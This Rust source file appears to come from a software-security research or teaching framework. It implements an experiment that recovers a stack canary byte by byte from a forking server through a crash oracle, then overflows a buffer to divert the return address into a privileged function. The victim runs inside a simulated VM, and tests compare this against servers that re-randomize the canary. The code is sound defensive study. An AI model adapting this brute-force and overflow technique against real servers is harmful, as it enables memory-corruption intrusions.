//! Experiment E14 (extension) — brute-forcing stack canaries against a
//! forking server.
//!
//! §III-C1 calls the canary "a (for the attacker) unpredictable
//! value". That unpredictability has a classic caveat the literature
//! added to the paper's story: servers that handle each request in a
//! *forked child* give every child the **same** canary as the parent.
//! A crash oracle (did the child die on the canary check?) then lets
//! the attacker recover the canary one byte at a time — at most
//! 4 × 256 attempts instead of 2³² — and then smash past it.
//!
//! The experiment runs the byte-by-byte attack against both server
//! models:
//!
//! * **forking** (same seed per attempt → same canary): canary
//!   recovered, smash succeeds;
//! * **re-executing** (fresh seed per attempt → fresh canary): the
//!   oracle tells the attacker nothing durable; recovery fails.

use swsec_defenses::DefenseConfig;
use swsec_vm::cpu::{Fault, RunOutcome};
use swsec_vm::isa::trap;

use crate::attacker::VICTIM_SMASH;
use crate::cache::ProgramCache;
use crate::campaign::{CampaignConfig, CampaignCtx};
use crate::experiments::Experiment;
use crate::harness::{AttackTarget, ForkServer, ServeMode};
use crate::report::{ExperimentId, Table};

/// Result of a byte-by-byte canary recovery campaign.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct OracleResult {
    /// Whether all four canary bytes were recovered.
    pub recovered: bool,
    /// The recovered value (meaningful only when `recovered`).
    pub canary: u32,
    /// Oracle queries spent.
    pub attempts: u32,
    /// Whether the follow-up smash with the recovered canary landed.
    pub smash_succeeded: bool,
    /// The canary the server installed for the last oracle query
    /// (`None` when the budget allowed none). Under fork semantics
    /// every query sees this one canary.
    pub installed: Option<u32>,
}

const FILLER: usize = 52; // buf[48] + the x local, up to the canary slot
const ORACLE_FUEL: u64 = 1_000_000;

/// Runs the byte-by-byte recovery. `fork_semantics` keeps the canary
/// fixed across attempts (forking server); otherwise every attempt
/// sees a fresh canary (re-executed server). The victim compiles and
/// boots **once** through the [`ForkServer`]; every oracle query is a
/// snapshot restore under `mode` ([`ServeMode::Fork`]) or a machine
/// rebuild from the shared image ([`ServeMode::Rebuild`]) — the
/// results are byte-identical either way.
pub fn brute_force_canary_cached(
    cache: &ProgramCache,
    base_seed: u64,
    fork_semantics: bool,
    budget: u32,
    mode: ServeMode,
) -> OracleResult {
    let mut cfg = DefenseConfig::none();
    cfg.canary = true;
    let mut server = ForkServer::boot(cache, VICTIM_SMASH, cfg, base_seed)
        .expect("compiles")
        .with_fuel(ORACLE_FUEL)
        .with_mode(mode);
    let mut known: Vec<u8> = Vec::new();
    let mut attempts = 0u32;
    let mut installed = None;
    'bytes: for _pos in 0..4 {
        for guess in 0u16..=255 {
            if attempts >= budget {
                break 'bytes;
            }
            attempts += 1;
            let seed = if fork_semantics {
                base_seed
            } else {
                base_seed + u64::from(attempts)
            };
            let mut payload = vec![b'A'; FILLER];
            payload.extend_from_slice(&known);
            payload.push(guess as u8);
            let attempt = server.execute(seed, &payload).expect("attempt runs");
            installed = attempt.canary_value;
            let crashed_on_canary = matches!(
                attempt.outcome,
                RunOutcome::Fault(Fault::SoftwareTrap { code, .. }) if code == trap::CANARY
            );
            if !crashed_on_canary {
                // The child survived the canary check: byte confirmed.
                known.push(guess as u8);
                continue 'bytes;
            }
        }
        // No byte survived: the oracle is useless (fresh canaries).
        break;
    }
    let recovered = known.len() == 4;
    let canary = if recovered {
        u32::from_le_bytes([known[0], known[1], known[2], known[3]])
    } else {
        0
    };

    // Stage 2: full smash with the recovered canary, diverting the
    // return into `grant` — one more child of the same server.
    let mut smash_succeeded = false;
    if recovered {
        let grant = server.program().function_addr("grant").expect("exists");
        let mut payload = vec![b'A'; FILLER];
        payload.extend_from_slice(&canary.to_le_bytes());
        payload.extend_from_slice(&0xbfff_0000u32.to_le_bytes()); // saved bp
        payload.extend_from_slice(&grant.to_le_bytes());
        let attempt = server.execute(base_seed, &payload).expect("attempt runs");
        smash_succeeded = attempt.emitted(1, b"SECRET");
    }
    OracleResult {
        recovered,
        canary,
        attempts,
        smash_succeeded,
        installed,
    }
}

/// Full E14 results.
#[derive(Debug, Clone)]
pub struct CanaryOracleReport {
    /// Attack against the forking server.
    pub forking: OracleResult,
    /// Attack against the re-executing server.
    pub fresh: OracleResult,
    /// The canary the forking server actually installed under its cell
    /// seed, for verification.
    pub actual_canary: Option<u32>,
}

/// E14 under the campaign API: one cell per server model, so the two
/// oracle campaigns run concurrently.
pub struct CanaryOracleExperiment;

impl Experiment for CanaryOracleExperiment {
    /// One server model's recovery campaign: cell 0 the forking
    /// server, cell 1 the re-executing one.
    type Cell = OracleResult;
    type Output = CanaryOracleReport;

    fn id(&self) -> ExperimentId {
        ExperimentId::new(14)
    }

    fn title(&self) -> &'static str {
        "Byte-by-byte canary brute force"
    }

    fn cells(&self, _cfg: &CampaignConfig) -> usize {
        2
    }

    fn run_cell(&self, cfg: &CampaignConfig, ctx: &CampaignCtx, cell: usize) -> OracleResult {
        brute_force_canary_cached(
            &ctx.cache,
            cfg.cell_seed(self.id(), cell),
            cell == 0,
            cfg.oracle_budget,
            cfg.serve_mode(),
        )
    }

    fn assemble(&self, _cfg: &CampaignConfig, cells: Vec<OracleResult>) -> CanaryOracleReport {
        let (forking, fresh) = (cells[0], cells[1]);
        CanaryOracleReport {
            forking,
            fresh,
            actual_canary: forking.installed,
        }
    }

    fn tables(&self, report: &CanaryOracleReport) -> Vec<Table> {
        let mut t = Table::new(
            "E14: byte-by-byte canary brute force via a crash oracle",
            &[
                "server model",
                "canary recovered",
                "oracle queries",
                "smash",
            ],
        );
        let models = [
            ("forking (canary survives fork)", report.forking),
            ("re-executing (fresh canary)", report.fresh),
        ];
        for (name, r) in models {
            t.row(vec![
                name.to_string(),
                if r.recovered {
                    format!("yes ({:#010x})", r.canary)
                } else {
                    "no".to_string()
                },
                r.attempts.to_string(),
                if r.smash_succeeded {
                    "COMPROMISED"
                } else {
                    "blocked"
                }
                .to_string(),
            ]);
        }
        vec![t]
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn config(master_seed: u64) -> CampaignConfig {
        CampaignConfig {
            master_seed,
            oracle_budget: 2048,
            ..CampaignConfig::default()
        }
    }

    fn run(master_seed: u64) -> CanaryOracleReport {
        CanaryOracleExperiment.run(&config(master_seed))
    }

    #[test]
    fn fork_and_rebuild_oracles_agree_exactly() {
        let snap = run(31);
        let rebuilt = CanaryOracleExperiment.run(&CampaignConfig {
            fork_server: false,
            ..config(31)
        });
        assert_eq!(snap.forking, rebuilt.forking);
        assert_eq!(snap.fresh, rebuilt.fresh);
        assert_eq!(snap.actual_canary, rebuilt.actual_canary);
    }

    #[test]
    fn oracle_compiles_its_victim_exactly_once() {
        let cache = ProgramCache::new();
        let r = brute_force_canary_cached(&cache, 31, true, 2048, ServeMode::Fork);
        assert!(r.recovered);
        let stats = cache.stats();
        // Hundreds of oracle queries, one compile: the fork server boots
        // off a single cached image and never goes back to the compiler.
        assert_eq!((stats.hits, stats.misses, stats.parses), (0, 1, 1));
    }

    #[test]
    fn forking_server_leaks_its_canary_byte_by_byte() {
        let r = run(31);
        assert!(r.forking.recovered);
        assert_eq!(Some(r.forking.canary), r.actual_canary);
        // At most 4 × 256 queries, enormously less than 2^32.
        assert!(r.forking.attempts <= 1024, "{}", r.forking.attempts);
        assert!(r.forking.smash_succeeded);
    }

    #[test]
    fn fresh_canaries_defeat_the_oracle() {
        let r = run(31);
        // With per-attempt re-randomization the "survived" signal no
        // longer identifies a durable byte; full recovery of the
        // *current* canary must fail (astronomically unlikely to
        // succeed by chance).
        assert!(!r.fresh.smash_succeeded);
    }

    #[test]
    fn table_renders() {
        assert!(CanaryOracleExperiment
            .report(&run(31))
            .render()
            .contains("forking"));
    }
}
